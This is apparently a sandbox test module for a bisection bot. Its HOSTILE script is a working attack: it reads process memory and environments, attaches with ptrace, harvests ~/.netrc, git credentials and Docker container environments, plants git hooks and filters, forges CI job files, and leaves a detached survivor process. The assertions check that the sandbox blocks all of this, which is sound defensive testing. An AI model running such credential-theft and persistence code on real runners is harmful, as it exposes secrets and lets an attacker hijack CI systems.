"""The hostile candidate of issue 36 and the nights it runs in (shared by ``tests/sandbox``).

:data:`HOSTILE` is one command reproducer that answers like the engine's own check (exit 1 from
the culprit on), so the bisection must still name the right culprit, and on every probe tries:

0. what it inherited: its own descriptors beyond 0-2, and those of every process it can see
   (``/proc/PID/fd/N`` of the bot: the ledger's SQLite file, log files), opened for reading and
   for writing; as root, ``umount`` of the state directory and ``mount -o remount,rw /``;
1. every ``/proc/*/environ`` and ``/proc/*/cmdline`` it can read; the bot's memory
   (``/proc/PID/mem`` of its ancestors and of every process naming bisectbot) and ``ptrace`` of them;
2. a ``post-checkout`` hook, ``core.fsmonitor``, a smudge filter and ``core.hooksPath`` in the
   repository's common git directory;
3. a ``setsid env -i sleep`` survivor (and counts the survivors of earlier probes it sees);
4. the job's ``GITHUB_ENV`` / ``GITHUB_OUTPUT`` (through its ancestors' environment, or by path);
5. the bot's state directory and ledger, and the directory of ``round probe``'s verdict file;
6. ``~/.netrc``, ``~/.git-credentials``, ``~/.gitconfig`` (``git config --global credential.*``,
   ``git credential fill``); the Docker socket (``/version``, and ``docker inspect`` of every
   container it lists: the job's environment).

What it found goes to ``loot/`` (the one directory outside its tree it may write, through
``BISECTBOT_SANDBOX_WRITABLE``), reversed where it may hold a secret (no redactor sees it).
A :class:`Night` runs it under ``bisectbot run`` or ``round plan``/``round probe``, as root or,
when the tests run as root, as ``nobody`` (uid 65534, ``setpriv``) with the system ``python3``
and a world-readable copy of the installed package and its dependencies.
"""

from __future__ import annotations

import importlib.metadata as md
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import yaml

from tests.bisect.conftest import make_engine_repo, write_recipe

TOKEN = "ghp_SANDBOXtoken000111222333444555666777"
MARKER_KEY = "marker-key-sandbox-0123456789"
HF = "hf_SANDBOXhuggingface0123456789abcdef"
NETRC = "ghp_NETRCsecret00011122233344455566677"
GITCRED = "ghp_GITCREDENTIALS0001112223334445556667"
GITCONFIG = "ghp_GITCONFIGhelper00011122233344455566"
SECRETS = (TOKEN, MARKER_KEY, HF, NETRC, GITCRED, GITCONFIG)
SURVIVOR = "97.3125"  # seconds a planted survivor sleeps: its argv names it (each Night adds digits of its own,
# so nights that run at once -- xdist workers -- count only their own survivors)
NOBODY = 65534

HOSTILE = r'''
import ctypes, json, os, re, socket, subprocess, sys, time
own_fds = {}
for fd in os.listdir("/proc/self/fd"):
    try:
        own_fds[int(fd)] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        pass
loot = os.environ["LOOT"]
me = f"{os.getpid()}-{time.time_ns()}"
tried = []
T = [("start", time.monotonic())]
def run(*a, **kw):
    try:
        return subprocess.run(a, capture_output=True, text=True, timeout=20, **kw)
    except (OSError, subprocess.TimeoutExpired) as e:
        return subprocess.CompletedProcess(a, 127, "", str(e))
def cmdline(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        return b""
# 0. descriptors: its own beyond stdio, and every other process's it can open
extra_fds = {fd: t for fd, t in own_fds.items() if fd > 2 and not t.startswith("/proc/")}
ancestors, pid = [], os.getppid()
while pid > 1:
    ancestors.append(pid)
    try:
        pid = int(re.search(r"PPid:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1))
    except (OSError, AttributeError):
        break
targets = set(ancestors[:1])  # its parent (the bot, unconfined) and every process that is the bot
for p in os.listdir("/proc"):
    argv = cmdline(p).split(b"\0")
    if p.isdigit() and (b"-m\0bisectbot\0" in cmdline(p) or os.path.basename(argv[0]) == b"bisectbot"):  # the bot
        targets.add(int(p))
targets.discard(os.getpid())
foreign = []
for p in sorted(targets):
    try:
        fds = os.listdir(f"/proc/{p}/fd")
    except OSError:
        continue
    for fd in fds:
        path = f"/proc/{p}/fd/{fd}"
        try:
            t = os.readlink(path)
        except OSError:
            continue
        got = []
        for how, flags in (("read", os.O_RDONLY), ("write", os.O_WRONLY | os.O_APPEND)):
            try:
                os.close(os.open(path, flags | os.O_NONBLOCK))
                got.append(how)
            except OSError:
                pass
        if got:
            foreign.append(f"{p}:{fd} -> {t} ({'+'.join(got)})")
# 0b. as root: take the mounts that hide and protect things away
state = os.environ.get("HOSTILE_STATE", "")
if os.geteuid() == 0 and os.getpid() < 16:  # root in its own PID namespace: never the host's own mounts
    for a in (["umount", "-l", state], ["mount", "-o", "remount,rw", "/"], ["mount", "-o", "remount,bind,rw", "/"]):
        r = run(*a)
        tried.append(f"{' '.join(a[:3])}: rc {r.returncode}")
T.append(("fds", time.monotonic()))
# 1. every environment and command line; the bot's memory; ptrace of it
dump = bytearray()
for p in os.listdir("/proc"):
    if p.isdigit():
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{p}/{what}", "rb") as fh:
                    dump += fh.read() + b"\n"
            except OSError:
                pass
mem_read = {}
for p in sorted(targets):
    try:
        maps = open(f"/proc/{p}/maps").read().splitlines()
        fh = open(f"/proc/{p}/mem", "rb", buffering=0)
    except OSError:
        continue
    n = 0
    with fh:
        for line in maps:
            f = line.split()
            if len(f) < 2 or not f[1].startswith("rw") or (len(f) > 5 and not f[5].startswith("[heap")):
                continue
            lo, hi = (int(x, 16) for x in f[0].split("-"))
            if hi - lo > 32 << 20 or n > 64 << 20:
                continue
            try:
                fh.seek(lo)
                chunk = fh.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            n += len(chunk)
            for pre in (b"ghp_", b"hf_", b"marker-key-"):
                i = chunk.find(pre)
                while i >= 0:
                    dump += chunk[i:i + 64] + b"\n"
                    i = chunk.find(pre, i + 1)
    mem_read[p] = n
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
traced = []
for p in sorted(targets):
    if libc.ptrace(16, p, None, None) == 0:  # PTRACE_ATTACH
        traced.append(p)
        try:
            os.waitpid(p, 0x40000000)  # __WALL
        except OSError:
            pass
        libc.ptrace(17, p, None, None)  # PTRACE_DETACH
T.append(("mem", time.monotonic()))
open(os.path.join(loot, f"proc-{me}.bin"), "wb").write(bytes(reversed(dump)))
# 2. repository-controlled code for the bot's next git commands
r = run("git", "rev-parse", "--path-format=absolute", "--git-common-dir")
common = r.stdout.strip()
tried.append(f"git rev-parse: rc {r.returncode} {r.stderr.strip()[-300:]!r}")
if common:
    for name, body in (("hooks/post-checkout", f"#!/bin/sh\ntouch {loot}/HOOK-RAN\n"),
                       ("evil-hooks/post-checkout", f"#!/bin/sh\ntouch {loot}/HOOKSPATH-RAN\n"),
                       ("info/attributes", "* filter=evil\n")):
        try:
            p = os.path.join(common, name)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            open(p, "w").write(body)
            os.chmod(p, 0o755)
            tried.append(name + ": written")
        except OSError as e:
            tried.append(f"{name}: {e}")
    for k, v in (("core.fsmonitor", f"touch {loot}/FSMONITOR-RAN; false"),
                 ("filter.evil.smudge", f"sh -c 'touch {loot}/SMUDGE-RAN; cat'"),
                 ("core.hooksPath", os.path.join(common, "evil-hooks"))):
        r = run("git", "config", "--file", os.path.join(common, "config"), k, v)
        tried.append(f"{k}: rc {r.returncode}")
T.append(("git", time.monotonic()))
# 3. a survivor, and the survivors of earlier probes
seen = sum(1 for p in os.listdir("/proc") if p.isdigit() and cmdline(p) == b"sleep\0SURVIVOR\0")  # before its own
subprocess.Popen(["setsid", "env", "-i", "sleep", "SURVIVOR"], stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.2)
# 4. the job's command files: through the ancestors' environment, and by the path given
job = set()
ancestors, p = [], os.getppid()  # its ancestors only: other nights' bots (tests run at once) are not its own
while p > 1 and len(ancestors) < 64:
    ancestors.append(str(p))
    try:
        p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for p in ancestors:
    try:
        for item in open(f"/proc/{p}/environ", "rb").read().split(b"\0"):
            k, _, v = item.partition(b"=")
            if k in (b"GITHUB_ENV", b"GITHUB_OUTPUT"):
                job.add(v.decode())
    except OSError:
        pass
job.update(os.environ.get("HOSTILE_JOB_FILES", "").split(":"))
for f in filter(None, job):
    try:
        open(f, "a").write("VERDICT_DIGEST=forged\n")
        tried.append(f"{f}: written")
    except OSError as e:
        tried.append(f"{f}: {e}")
# 5. the bot's state; the directory of round probe's verdict file
verdicts = os.environ.get("HOSTILE_VERDICTS", "")
for where, name in ((state, "planted.txt"), (state, "ledger.sqlite3"), (verdicts, "planted.txt")):
    if not where:
        continue
    try:
        open(os.path.join(where, name), "ab").write(b"forged")
        tried.append(f"state/{name}: written" if where == state else f"verdicts/{name}: written")
    except OSError as e:
        tried.append(f"state/{name}: {e}" if where == state else f"verdicts/{name}: {e}")
T.append(("job+state", time.monotonic()))
# 6. the user's credentials; the Docker socket
home = os.environ.get("HOME", "/nonexistent")
creds = bytearray()
for name in (".netrc", ".git-credentials", ".config/git/credentials", ".gitconfig"):
    try:
        creds += open(os.path.join(home, name), "rb").read() + b"\n"
    except OSError:
        pass
creds += run("git", "config", "--global", "--list").stdout.encode()
creds += run("git", "credential", "fill", input="protocol=https\nhost=github.com\n\n",
             env={**os.environ, "GIT_TERMINAL_PROMPT": "0"}).stdout.encode()
def docker(sock, path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    try:
        s.connect(sock)
        s.sendall(f"GET {path} HTTP/1.0\r\nHost: docker\r\n\r\n".encode())
        out = b""
        while len(out) < 1 << 22:
            b = s.recv(65536)
            if not b:
                break
            out += b
        return out
    except OSError:
        return None
    finally:
        s.close()
reached = []
for sock in ("/run/docker.sock", "/var/run/docker.sock"):
    r = docker(sock, "/version")
    if r is not None:
        status = r.split(b"\r\n", 1)[0].decode(errors="replace")
        reached.append(f"{sock}: {status}")
        listing = docker(sock, "/containers/json")
        try:
            ids = [c["Id"] for c in json.loads(listing.split(b"\r\n\r\n", 1)[1])][:3]
        except Exception:
            ids = []
        for cid in ids:  # docker inspect: the environment of every container, its own included
            creds += docker(sock, f"/containers/{cid}/json") or b""
T.append(("home+docker", time.monotonic()))
open(os.path.join(loot, f"home-{me}.bin"), "wb").write(bytes(reversed(creds)))
json.dump({"survivors_seen": seen, "tried": tried, "extra_fds": extra_fds, "foreign_fds": foreign,
           "mem_read": mem_read, "traced": traced, "docker": reached, "uid": os.geteuid(),
           "times": [(k, round(t - T[0][1], 2)) for k, t in T]},
          open(os.path.join(loot, f"probe-{me}.json"), "w"))
cfg = json.load(open("engine.json"))
sys.exit(1 if cfg["threshold"] < 10000 else 0)
'''


def survivors(survivor: str = SURVIVOR) -> list[int]:
    """Pids of planted survivors alive now (any uid) whose argv is ``sleep survivor``."""
    out = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and Path(f"/proc/{pid}/cmdline").read_bytes() == f"sleep\0{survivor}\0".encode():
                out.append(int(pid))
        except OSError:
            pass
    return out


def kill_survivors(survivor: str = SURVIVOR) -> None:
    for pid in survivors(survivor):
        try:
            os.kill(pid, 9)
        except OSError:
            pass


def plant(common: Path, loot: Path) -> None:
    """What a candidate of an unconfined night wrote into the repository's git directory."""
    hook = common / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {loot}/HOOK-RAN\n")
    hook.chmod(0o755)
    (common / "info").mkdir(exist_ok=True)
    (common / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    for k, v in (("core.fsmonitor", f"touch {loot}/FSMONITOR-RAN; false"),
                 ("filter.evil.smudge", f"sh -c 'touch {loot}/SMUDGE-RAN; cat'"),
                 ("filter.evil.process", f"sh -c 'touch {loot}/SMUDGE-RAN'"),
                 ("diff.evil.textconv", f"sh -c 'touch {loot}/TEXTCONV-RAN; cat'")):
        subprocess.run(["git", "config", "--file", str(common / "config"), k, v], check=True)


def _dist_key(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


def portable_lib(dest: Path) -> Path:
    """A world-readable copy of the installed bisectbot and its runtime dependencies under ``dest``
    (hard links where the file system allows: no 200 MB copy), for the system ``python3`` of a
    user who cannot read this interpreter's site-packages (``/root/.pyenv``, a 0700 checkout)."""
    from packaging.markers import Marker

    import bisectbot

    dest.mkdir(mode=0o755)
    seen: set[str] = set()
    todo = ["bisectbot"]
    while todo:
        key = _dist_key(todo.pop())
        if key in seen:
            continue
        seen.add(key)
        try:
            dist = md.distribution(key)
        except md.PackageNotFoundError:
            continue
        for req in dist.requires or []:
            if ";" in req and not Marker(req.split(";", 1)[1]).evaluate():
                continue  # extras (test) and other platforms
            todo.append(re.split(r"[ <>=!~;\[(]", req, maxsplit=1)[0])
        if key == "bisectbot":
            continue  # the package itself below: an editable install's RECORD names no module
        for f in dist.files or []:
            src = Path(str(dist.locate_file(f)))
            if ".." in f.parts or not src.is_file() or "__pycache__" in f.parts:
                continue
            _link(src, dest / f)
    pkg = Path(bisectbot.__file__).parent
    for src in pkg.rglob("*"):
        if src.is_file() and "__pycache__" not in src.parts:
            _link(src, dest / "bisectbot" / src.relative_to(pkg))
    for d in [dest, *dest.rglob("*")]:
        if d.is_dir():
            d.chmod(0o755)
    return dest


def _link(src: Path, to: Path) -> None:
    to.parent.mkdir(parents=True, exist_ok=True)
    if src.stat().st_mode & 0o004:
        try:
            os.link(src, to)
            return
        except OSError:
            pass
    shutil.copyfile(src, to)
    to.chmod(0o755 if os.access(src, os.X_OK) else 0o644)


def system_python() -> str:
    py = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin")
    assert py, "a system python3 (the unprivileged user must be able to run it)"
    ver = subprocess.run([py, "-c", "import sys; print(sys.version_info[:2])"], capture_output=True,
                         text=True).stdout.strip()
    assert ver == str(sys.version_info[:2]), f"system {py} is {ver}, the suite's {sys.version_info[:2]}: " \
                                             "compiled dependencies would not load"
    return py


class Night:
    """One hostile bisection (``run``) or one round of ``round probe`` s, and what it left.

    ``user``: ``root`` (the test's own uid) or ``nobody`` (uid 65534 through ``setpriv``; needs
    the tests to run as root). ``mode``: ``run`` or ``round``. ``tmp`` must be reachable by
    ``user`` (not pytest's 0700 root for ``nobody``)."""

    def __init__(self, tmp: Path, *, preplant: bool = False, sandbox: str | None = None,
                 user: str = "root", mode: str = "run", lib: Path | None = None):
        self.tmp = tmp
        self.user = user
        self.repo = make_engine_repo(tmp / "repo", n=8, k=5)
        self.loot = tmp / "loot"
        self.state = tmp / "state"
        self.job = tmp / "job"
        self.verdicts = tmp / "verdicts"
        self.home = tmp / "home"
        for d in (self.loot, self.job, self.verdicts, self.home, tmp / "tmp", tmp / "out"):
            d.mkdir()
        self.job_files = [self.job / "set_env", self.job / "set_output"]
        for f in self.job_files:
            f.write_text("")
        self._home_credentials()
        py = sys.executable
        env: dict[str, str] = {}
        prefix: list[str] = []
        if user == "nobody":
            assert os.getuid() == 0, "dropping to nobody needs root"
            assert lib is not None
            py = system_python()
            prefix = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"]
            env = {"PYTHONPATH": str(lib), "PYTHONSAFEPATH": "1", "PYTHONDONTWRITEBYTECODE": "1"}
        self.survivor = f"{SURVIVOR}{secrets.randbelow(10 ** 6):06d}1"
        (self.loot / "hostile.py").write_text(HOSTILE.replace("SURVIVOR", self.survivor))  # /tmp is the sandbox's own: the script lies in loot/
        rec = write_recipe(tmp / "r.yaml", self.repo, tmp / "out", mode="command")
        data = yaml.safe_load(rec.read_text().replace(sys.executable, py))
        data["reproducer"]["command"] = [py, str(self.loot / "hostile.py")]
        data["env_passthrough"] = ["LOOT", "HOSTILE_JOB_FILES", "HOSTILE_STATE", "HOSTILE_VERDICTS"]
        rec.write_text(yaml.safe_dump(data, sort_keys=False))
        self.common = self.repo.path / ".git"
        if preplant:  # a night without these defences left them behind
            plant(self.common, self.loot)
        env.update({"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(self.home), "LOOT": str(self.loot),
                    "HOSTILE_JOB_FILES": ":".join(map(str, self.job_files)), "HOSTILE_STATE": str(self.state),
                    "HOSTILE_VERDICTS": str(self.verdicts), "BISECTBOT_SANDBOX_WRITABLE": str(self.loot),
                    "BISECTBOT_GITHUB_TOKEN": TOKEN, "BISECTBOT_MARKER_KEY": MARKER_KEY, "HF_TOKEN": HF,
                    "GITHUB_ENV": str(self.job_files[0]), "GITHUB_OUTPUT": str(self.job_files[1]),
                    "TMPDIR": str(tmp / "tmp")})
        if sandbox is not None:
            env["BISECTBOT_SANDBOX"] = sandbox
        if user == "nobody":
            subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(tmp)], check=True)
            tmp.chmod(0o755)
        self.bot = [*prefix, py, "-m", "bisectbot", "--state", str(self.state)]
        self.env = env
        self.rec = rec
        self.verdict_files: list[Path] = []
        if mode == "run":
            self.p = self.cli("run", str(rec), "--out", str(tmp / "out"))
        else:
            self.p = self.round()
        self.survivors_after = survivors(self.survivor)
        kill_survivors(self.survivor)
        self.probes = [json.loads(f.read_text()) for f in sorted(self.loot.glob("probe-*.json"))]

    def cli(self, *args: str) -> subprocess.CompletedProcess:
        return subprocess.run([*self.bot, *args], capture_output=True, text=True, env=self.env, timeout=300,
                              cwd=self.tmp)

    def round(self) -> subprocess.CompletedProcess:
        """``round plan --slots 2`` and one ``round probe`` per planned probe, each writing its verdict
        file into ``verdicts/`` (as the fan-out's candidate step does); the last failing process, or
        the last ``round probe``."""
        p = self.cli("round", "plan", str(self.rec), "--slots", "2")
        if p.returncode != 0:
            return p
        plan = json.loads(p.stdout)
        self.plan = plan
        for n, pr in enumerate(plan["probes"]):
            f = self.verdicts / f"r{plan['round']}-{n}.json"
            p = self.cli("round", "probe", str(self.rec), "--session", plan["session"], "--ref", pr["ref"],
                         "--key", pr["key"], "--round", str(plan["round"]), "--attempt", str(pr["attempt"]),
                         "--runner-name", f"slot-{n}", "--toggle", pr["toggle"], "--out", str(f))
            self.verdict_files.append(f)
            if p.returncode != 0:
                return p
        return p

    def _home_credentials(self) -> None:
        """A home directory holding credentials, as a runner user's often does."""
        (self.home / ".netrc").write_text(f"machine github.com login x password {NETRC}\n")
        (self.home / ".git-credentials").write_text(f"https://x:{GITCRED}@github.com\n")
        (self.home / ".gitconfig").write_text(
            "[user]\n\tname = runner\n\temail = runner@example.com\n"
            f"[credential]\n\thelper = \"!f() {{ echo username=x; echo password={GITCONFIG}; }}; f\"\n")
        for f in (".netrc", ".git-credentials"):
            (self.home / f).chmod(0o600)

    def ok(self) -> None:
        assert self.p.returncode == 0, self.p.stdout[-3000:] + self.p.stderr[-3000:]
        if not self.verdict_files:
            assert self.repo.shas[5] in self.p.stdout, self.p.stdout[-3000:]  # the right culprit, undisturbed
            assert len(self.probes) >= 3, self.probes
        else:
            assert self.probes, "the reproducer never ran"
        assert all(p["uid"] == (NOBODY if self.user == "nobody" else os.getuid()) for p in self.probes)

    def dumps(self) -> list[tuple[str, bytes]]:
        """Everything the candidates read, un-reversed."""
        return [(d.name, bytes(reversed(d.read_bytes()))) for d in sorted(self.loot.glob("*.bin"))]

    def tried(self) -> list[str]:
        return [t for p in self.probes for t in p["tried"]]


def world_dir(prefix: str) -> Path:
    """A new directory any uid can enter (pytest's temporary root is 0700 root)."""
    d = Path(tempfile.mkdtemp(prefix=prefix))
    d.chmod(0o755)
    return d


# ------------------------------------------------------------------ what must hold after a night
def no_secret_found(night: Night) -> None:
    """No secret in what any candidate read: ``/proc/*/environ``/``cmdline``, the bot's memory,
    home credentials, ``git credential fill``, Docker; nor in the bot's output."""
    procs = [d for name, d in night.dumps() if name.startswith("proc-")]
    assert procs and any(b"sleep" in d or b"python" in d for d in procs)  # it did read command lines
    for name, seen in night.dumps():
        for s in SECRETS:
            assert s.encode() not in seen, f"{s[:12]}... found by a candidate ({name})"
    for s in SECRETS:
        assert s not in night.p.stdout + night.p.stderr


def no_memory_or_ptrace(night: Night) -> None:
    """No candidate read a byte of the bot's memory or attached to it (``/proc/PID/mem``, ``ptrace``)."""
    read = [p["mem_read"] for p in night.probes if any(p["mem_read"].values())]
    assert read == [], f"candidates read the memory of these processes (pid: bytes): {read}"
    traced = [p["traced"] for p in night.probes if p["traced"]]
    assert traced == [], f"candidates attached to {traced} with ptrace"


def no_descriptor(night: Night) -> None:
    """A candidate holds only stdin/stdout/stderr, and opens no descriptor of another process
    (``/proc/PID/fd/N``: the ledger's SQLite file, the bot's logs, its pipes)."""
    extra = [p["extra_fds"] for p in night.probes if p["extra_fds"]]
    assert extra == [], f"candidates inherited descriptors: {extra}"
    foreign = [p["foreign_fds"] for p in night.probes if p["foreign_fds"]]
    assert foreign == [], f"candidates opened other processes' descriptors: {foreign}"


def no_docker(night: Night) -> None:
    reached = [p["docker"] for p in night.probes if p["docker"]]
    assert reached == [], f"candidates reached a Docker daemon: {reached}"


def no_hook_ran(night: Night) -> None:
    ran = sorted(p.name for p in night.loot.glob("*-RAN"))
    assert ran == [], f"the bot's git ran code a candidate planted: {ran}"
    assert not (night.common / "hooks" / "post-checkout").exists(), "a hook was planted"
    assert not (night.common / "info" / "attributes").exists(), "attributes were planted"
    cfg = (night.common / "config").read_text()
    assert "fsmonitor" not in cfg and "evil" not in cfg, cfg
    assert any("post-checkout" in t and "Read-only" in t for t in night.tried()), night.tried()


def no_survivor(night: Night) -> None:
    seen = [p["survivors_seen"] for p in night.probes]
    assert seen == [0] * len(night.probes), f"survivors of earlier probes seen: {seen}"
    assert night.survivors_after == [], f"alive after the night: {night.survivors_after}"


def job_files_untouched(night: Night) -> None:
    """``GITHUB_ENV`` empty; ``GITHUB_OUTPUT`` empty, or under ``round probe`` exactly the digest
    line of each verdict file (what the bot writes there)."""
    import hashlib

    assert night.job_files[0].read_text() == "", "GITHUB_ENV was written by a candidate"
    want = "".join(f"sha256={hashlib.sha256(f.read_bytes()).hexdigest()}\n" for f in night.verdict_files)
    got = night.job_files[1].read_text()
    assert got == want, f"GITHUB_OUTPUT holds {got!r}, not the bot's digest lines {want!r}"


def state_untouched(night: Night) -> None:
    assert not list(night.state.rglob("planted.txt")), "a candidate wrote into the state directory"
    assert all("written" not in t for t in night.tried() if t.startswith("state/")), night.tried()
    assert all(not t.startswith(("umount", "mount")) or not t.endswith("rc 0") for t in night.tried()), night.tried()


def verdicts_untouched(night: Night) -> None:
    """The verdict files' directory holds exactly the files ``round probe`` wrote, each a verdict."""
    found = sorted(night.verdicts.iterdir())
    assert found == sorted(night.verdict_files), f"the verdict directory holds {found}"
    for f in night.verdict_files:
        doc = json.loads(f.read_text())
        assert doc["verdict"] in ("good", "bad"), doc["verdict"]
    assert all("written" not in t for t in night.tried() if t.startswith("verdicts/")), night.tried()


ALL = (no_secret_found, no_memory_or_ptrace, no_descriptor, no_docker, no_hook_ran, no_survivor,
       job_files_untouched, state_untouched)
